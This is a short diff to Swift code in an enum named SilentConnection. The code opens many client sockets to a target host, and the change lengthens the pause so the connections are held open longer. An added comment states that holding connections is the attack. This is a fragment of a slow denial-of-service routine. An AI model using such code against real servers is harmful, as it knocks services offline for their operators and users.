@@ -206,7 +206,8 @@ private enum SilentConnection {
                     while open.count < count / 10, let socket = try? ClientSocket(host: host, port: port) {
                         open.append(socket)
                     }
-                    usleep(200_000)
+                    // Holding connections is the attack, not making them.
+                    sleep(2)
                     open.removeAll { $0.hasEnded }
                 }
             }
